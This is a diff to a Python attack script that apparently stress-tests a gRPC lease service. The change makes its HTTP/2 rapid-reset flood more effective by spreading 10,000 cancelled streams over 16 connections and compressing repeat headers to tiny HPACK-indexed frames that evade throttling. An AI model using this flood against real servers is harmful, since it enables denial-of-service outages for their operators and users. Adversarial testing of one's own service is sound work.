@@ -18,6 +18,7 @@ DATA, HEADERS, RST, SETTINGS, PING = 0, 1, 3, 4, 6
 END_STREAM, END_HEADERS, ACK = 1, 4, 1
 BAD_TOKENS_PER_SECOND = 100_000 / 60
 RESETS = 10_000
+RESET_CONNECTIONS = 16
 SLOW, IDLE_STREAMS = 500, 1_000
 METHOD = "/leasehold.v1.LeaseService/AcquireLease"
 
@@ -39,8 +40,8 @@ def text(value: str) -> bytes:
     return coded + bytes([rest]) + raw
 
 
-def headers(bearer: str) -> bytes:
-    """The header block of a call, nothing indexed."""
+def headers(bearer: str, *, kept: bool = False) -> bytes:
+    """The header block of a call; `kept` lets the other side remember each header (RFC 7541, 6.2.1)."""
     pairs = {
         ":method": "POST",
         ":scheme": "http",
@@ -52,7 +53,11 @@ def headers(bearer: str) -> bytes:
         "leasehold": "1",
         "authorization": f"Bearer {bearer}",
     }
-    return b"".join(b"\x00" + text(name) + text(value) for name, value in pairs.items())
+    return b"".join((b"\x40" if kept else b"\x00") + text(name) + text(value) for name, value in pairs.items())
+
+
+KEPT = bytes(range(0x80 + 62 + 8, 0x80 + 61, -1))
+"""The same block once it is remembered: its nine headers by number, a byte each."""
 
 
 def bad_jwt(number: int) -> str:
@@ -112,22 +117,27 @@ class Attack:
         await asyncio.gather(*(self.repeated(burst) for _ in range(4)))
 
     async def resets(self) -> None:
-        """Calls that are cancelled in the same breath, 10,000 in all, spread over the time.
+        """Calls that are cancelled in the same breath, 10,000 in all, on many connections, spread over the time.
 
-        With a good token, so that nothing but the resets is held against it.
+        With a good token, so that nothing but the resets is held against it; and 31 bytes each, so that they are on
+        their way before anybody can hold them back.
         """
         streams: dict[asyncio.StreamWriter, int] = {}
-        block = headers(os.environ["ATTACKER_TOKEN"])
-        began, whole = time.monotonic(), max(1.0, 0.9 * (self.until - time.monotonic()))
+        block = headers(os.environ["ATTACKER_TOKEN"], kept=True)
+        began, whole = time.monotonic(), max(1.0, 0.5 * (self.until - time.monotonic()))
 
         def burst(writer: asyncio.StreamWriter) -> None:
             due = min(RESETS, (time.monotonic() - began) / whole * RESETS) - self.sent
-            for _ in range(min(500, int(due))):
-                stream = streams[writer] = streams.get(writer, -1) + 2
-                writer.write(frame(HEADERS, END_HEADERS, stream, block) + frame(RST, 0, stream, b"\0\0\0\x08"))
+            for _ in range(min(RESETS // RESET_CONNECTIONS, int(due))):
+                stream = streams.get(writer, -1) + 2
+                writer.write(
+                    frame(HEADERS, END_HEADERS, stream, KEPT if writer in streams else block)
+                    + frame(RST, 0, stream, b"\0\0\0\x08")
+                )
+                streams[writer] = stream
                 self.sent += 1
 
-        await asyncio.gather(*(self.repeated(burst) for _ in range(4)))
+        await asyncio.gather(*(self.repeated(burst) for _ in range(RESET_CONNECTIONS)))
 
     async def slow(self) -> None:
         """500 connections that say a byte a second, half of them at each door."""
